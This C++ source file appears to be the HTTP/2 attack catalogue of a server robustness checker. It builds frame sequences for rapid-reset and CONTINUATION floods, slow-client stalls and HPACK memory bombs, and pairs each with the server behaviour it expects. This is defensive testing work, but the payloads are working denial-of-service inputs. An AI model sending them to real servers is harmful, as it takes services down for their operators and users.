// Attacks on HTTP/2: floods, slow clients, and frames that make a server hold memory.
#include <algorithm>
#include <utility>

#include "tools/weir/check/h2_cases.hpp"
#include "tools/weir/check/h2_requests.hpp"

namespace weir::check {
namespace {

using http::FrameFlag;
using http::FrameType;
using http::H2Error;
using http::SettingId;
using Target = CheckTarget;

constexpr std::size_t flood_size = 20'000;
constexpr std::size_t held_streams = 100;

/// Returns frames for each of many streams.
template <class Make>
std::string streams(std::size_t count, const Make& make) {
  std::string all;
  for (std::size_t index = 0; index < count; ++index) {
    all += make(static_cast<std::uint32_t>(2 * index + 1));
  }
  return all;
}

/// Returns requests of which the server must reset each one because of `after(stream)`.
template <class Make>
std::string reset_posts(const Target& target, const Make& after) {
  return streams(flood_size,
                 [&](std::uint32_t stream) { return h2_post(target, stream) + after(stream); }) +
         h2_ping();
}

/// The same for requests that are complete, and whose answers wait for a window.
template <class Make>
std::string reset_gets(const Target& target, const Make& after) {
  return h2_setting(SettingId::initial_window_size, 0) +
         streams(flood_size,
                 [&](std::uint32_t stream) { return h2_get(target, stream) + after(stream); }) +
         h2_ping();
}

std::vector<H2Case> reset_floods() {
  return {
      {"flood-rapid-reset", "20,000 requests that the client resets",
       [](const Target& target) {
         return streams(flood_size,
                        [&](std::uint32_t stream) {
                          return h2_get(target, stream) + h2_rst_stream(stream);
                        }) +
                h2_ping();
       }},
      {"flood-server-resets", "20,000 requests with a WINDOW_UPDATE of 0",
       [](const Target& target) {
         return reset_posts(target,
                            [](std::uint32_t stream) { return h2_window_update(stream, 0); });
       }},
      {"flood-window-overflow", "20,000 requests whose window exceeds 2^31 - 1",
       [](const Target& target) {
         return reset_posts(
             target, [](std::uint32_t stream) { return h2_window_update(stream, 0x7fffffff); });
       }},
      {"flood-priority-length", "20,000 requests with a PRIORITY of 4 bytes",
       [](const Target& target) {
         return reset_posts(target, [](std::uint32_t stream) {
           return h2_frame(FrameType::priority, 0, stream, "1234");
         });
       }},
      {"flood-priority-self",
       "20,000 requests that depend on themselves",
       [](const Target& target) {
         return reset_posts(target, [](std::uint32_t stream) {
           return h2_frame(FrameType::priority, 0, stream, h2_number(stream) + "\x10");
         });
       },
       H2Wanted::bounded,
       H2Error::protocol_error,
       {},
       true,
       true},
      {"flood-length", "20,000 bodies that are shorter than Content-Length",
       [](const Target& target) {
         return streams(flood_size,
                        [&](std::uint32_t stream) {
                          return h2_post(target, stream, {{"content-length", "5"}}) +
                                 h2_frame(FrameType::data, FrameFlag::end_stream, stream, "x");
                        }) +
                h2_ping();
       }},
  };
}

std::vector<H2Case> half_closed_floods() {
  return {
      {"flood-half-closed-data", "20,000 requests with DATA behind their end",
       [](const Target& target) {
         return reset_gets(target, [](std::uint32_t stream) {
           return h2_frame(FrameType::data, 0, stream, "x");
         });
       }},
      {"flood-half-closed-headers", "20,000 requests with HEADERS behind their end",
       [](const Target& target) {
         return reset_gets(target, [&](std::uint32_t stream) { return h2_get(target, stream); });
       }},
      {"flood-refused", "20,000 requests whose answers wait for a window",
       [](const Target& target) {
         return reset_gets(target, [](std::uint32_t) { return std::string(); });
       }},
      {"flood-malformed", "20,000 requests without :path",
       [](const Target& target) {
         std::vector<H2Field> fields = h2_get_fields(target);
         fields.pop_back();
         const std::string block = h2_block(fields);
         return streams(flood_size,
                        [&](std::uint32_t stream) {
                          return h2_frame(FrameType::headers, h2_whole, stream, block);
                        }) +
                h2_ping();
       }},
  };
}

std::vector<H2Case> frame_floods() {
  std::vector<H2Case> cases{
      {"flood-continuation", "20,000 CONTINUATION without an end",
       [](const Target& target) {
         return h2_frame(FrameType::headers, FrameFlag::end_stream, 1,
                         h2_block(h2_get_fields(target))) +
                h2_repeated(h2_frame(FrameType::continuation, 0, 1,
                                     h2_block({{"x", std::string(32, 'v')}})),
                            flood_size);
       }},
      {"flood-empty-continuation", "20,000 empty CONTINUATION",
       [](const Target& target) {
         return h2_frame(FrameType::headers, FrameFlag::end_stream, 1,
                         h2_block(h2_get_fields(target))) +
                h2_repeated(h2_frame(FrameType::continuation, 0, 1, ""), flood_size);
       }},
      {"flood-empty-headers", "10,000 streams whose blocks are empty",
       [](const Target&) {
         return streams(flood_size / 2,
                        [](std::uint32_t stream) {
                          return h2_frame(FrameType::headers, h2_whole, stream, "");
                        }) +
                h2_ping();
       }},
      {"flood-empty-data", "20,000 empty DATA",
       [](const Target& target) {
         return h2_post(target, 1) + h2_repeated(h2_frame(FrameType::data, 0, 1, ""), flood_size) +
                h2_ping();
       }},
  };
  using Frames = std::string (*)(const Target&);
  const std::pair<std::pair<std::string_view, std::string_view>, Frames> control[] = {
      {{"flood-ping", "20,000 PING"},
       [](const Target&) { return h2_repeated(h2_ping("a flood."), flood_size) + h2_ping(); }},
      {{"flood-settings", "20,000 empty SETTINGS"},
       [](const Target&) {
         return h2_repeated(h2_frame(FrameType::settings, 0, 0, ""), flood_size) + h2_ping();
       }},
      {{"flood-settings-entries", "20,000 changes of the initial window for 100 streams"},
       [](const Target& target) {
         return h2_setting(SettingId::initial_window_size, 0) +
                streams(held_streams,
                        [&](std::uint32_t stream) { return h2_post(target, stream); }) +
                h2_repeated(h2_setting(SettingId::initial_window_size, 1) +
                                h2_setting(SettingId::initial_window_size, 2),
                            flood_size / 2) +
                h2_ping();
       }},
      {{"flood-window-update", "20,000 WINDOW_UPDATE of 1"},
       [](const Target&) { return h2_repeated(h2_window_update(0, 1), flood_size) + h2_ping(); }},
      {{"flood-priority", "20,000 PRIORITY"},
       [](const Target&) {
         return h2_repeated(h2_frame(FrameType::priority, 0, 1, h2_number(0) + "\x10"),
                            flood_size) +
                h2_ping();
       }},
      {{"flood-unknown", "20,000 frames of an unknown type"},
       [](const Target&) {
         return h2_repeated(h2_frame(static_cast<FrameType>(0x42), 0, 0, "x"), flood_size) +
                h2_ping();
       }},
  };
  for (const auto& [names, frames] : control) {
    H2Case& made = cases.emplace_back(H2Case{names.first, names.second, frames});
    made.may_serve = true;
  }
  return cases;
}

std::string half_frame(const Target& target) {
  return h2_get(target, 1).substr(0, 5);
}
std::string open_block(const Target& target) {
  return h2_frame(FrameType::headers, FrameFlag::end_stream, 1, h2_block(h2_get_fields(target)));
}
std::string post_without_body(const Target& target) {
  return h2_post(target, 1);
}
std::string get_without_window(const Target& target) {
  return h2_setting(SettingId::initial_window_size, 0) + h2_get(target, 1);
}

std::vector<H2Case> slow_clients() {
  static const std::string data = h2_frame(FrameType::data, 0, 1, "a");
  static const std::string block = h2_frame(FrameType::continuation, 0, 1, h2_block({{"x", "y"}}));
  static const std::string window = h2_window_update(1, 1);
  static const std::string pings = h2_ping("present?");
  std::vector<H2Case> cases{
      {"slow-frame", "half of a frame, and silence", half_frame},
      {"slow-headers", "a field block without an end, and silence", open_block},
      {"slow-continuation", "a CONTINUATION every half second", open_block},
      {"slow-stream", "a request without its body, and silence", post_without_body},
      {"slow-stream-pings", "a request without its body, and PING", post_without_body},
      {"slow-data", "a byte of DATA every half second", post_without_body},
      {"slow-window", "a request whose answer gets no window", get_without_window},
      {"slow-window-update", "a window of a byte every half second", get_without_window},
  };
  cases[2].piece = block;
  cases[4].piece = pings;
  cases[5].piece = data;
  cases[7].piece = window;
  return cases;
}

/// Returns 100 requests whose answers wait for a window. `first` precedes the block of the first,
/// and `rest` ends the blocks of all.
std::string stalled(const Target& target, const std::string& first, const std::string& rest) {
  const std::string block = h2_block(h2_get_fields(target));
  return h2_setting(SettingId::initial_window_size, 0) +
         streams(held_streams, [&](std::uint32_t stream) {
           return h2_frame(FrameType::headers, h2_whole, stream,
                           block + (stream == 1 ? first : std::string()) + rest);
         });
}

std::vector<H2Case> memory_attacks() {
  constexpr std::size_t many = 15'000;
  constexpr std::size_t unread = 200'000;
  std::vector<H2Case> cases{
      {"memory-references", "100 blocks of references to a field of 4,000 bytes",
       [](const Target& target) {
         return stalled(target,
                        "\x40\x04"
                        "bomb"
                        "\x7f\xa1\x1e" +
                            std::string(4000, 'v'),
                        std::string(10'000, '\xbe'));
       }},
      {"memory-fields", "100 blocks of references to a field of 1 byte",
       [](const Target& target) {
         return stalled(target, std::string("\x40\x01x\0", 4), std::string(many, '\xbe'));
       }},
      {"memory-crumbs", "100 blocks of crumbs of a cookie",
       [](const Target& target) { return stalled(target, "", std::string(many, '\xa0')); }},
      {"memory-answers", "100 requests whose answers wait for a window",
       [](const Target& target) { return stalled(target, "", ""); }},
      {"memory-blocks", "a field block of 16 MB",
       [](const Target& target) {
         return h2_frame(FrameType::headers, FrameFlag::end_stream, 1,
                         h2_block(h2_get_fields(target))) +
                h2_repeated(h2_frame(FrameType::continuation, 0, 1,
                                     h2_block({{"x", std::string(16'000, 'v')}})),
                            1'000);
       }},
      {"memory-priorities", "PRIORITY for 200,000 streams that are idle",
       [](const Target&) {
         return streams(unread, [](std::uint32_t stream) {
           return h2_frame(FrameType::priority, 0, stream, h2_number(0) + "\x10");
         });
       }},
      {"memory-pings", "200,000 PING whose answers are not read",
       [](const Target&) { return h2_repeated(h2_ping("a flood."), unread); }},
      {"memory-settings", "200,000 SETTINGS whose answers are not read",
       [](const Target&) { return h2_repeated(h2_frame(FrameType::settings, 0, 0, ""), unread); }},
      {"memory-resets", "200,000 malformed requests whose resets are not read",
       [](const Target&) {
         return streams(unread, [](std::uint32_t stream) {
           return h2_frame(FrameType::headers, h2_whole, stream, "");
         });
       }},
      {"memory-requests", "20,000 requests whose answers are not read",
       [](const Target& target) {
         return h2_setting(SettingId::initial_window_size, 0x7fffffff) +
                h2_window_update(0, 0x7fff0000) +
                streams(flood_size, [&](std::uint32_t stream) { return h2_get(target, stream); });
       }},
  };
  const auto is_unread = [](const H2Case& each) { return each.why.ends_with("not read"); };
  for (H2Case& each : cases) each.reads = !is_unread(each);
  return cases;
}

}  // namespace

std::vector<H2Case> h2_attack_cases() {
  std::vector<H2Case> all;
  const auto add = [&all](std::vector<H2Case> cases, H2Wanted wanted) {
    for (H2Case& each : cases) each.wanted = wanted;
    all.insert(all.end(), cases.begin(), cases.end());
  };
  add(reset_floods(), H2Wanted::bounded);
  add(half_closed_floods(), H2Wanted::bounded);
  add(frame_floods(), H2Wanted::bounded);
  add(slow_clients(), H2Wanted::cut_off);
  add(memory_attacks(), H2Wanted::held);
  return all;
}

}  // namespace weir::check
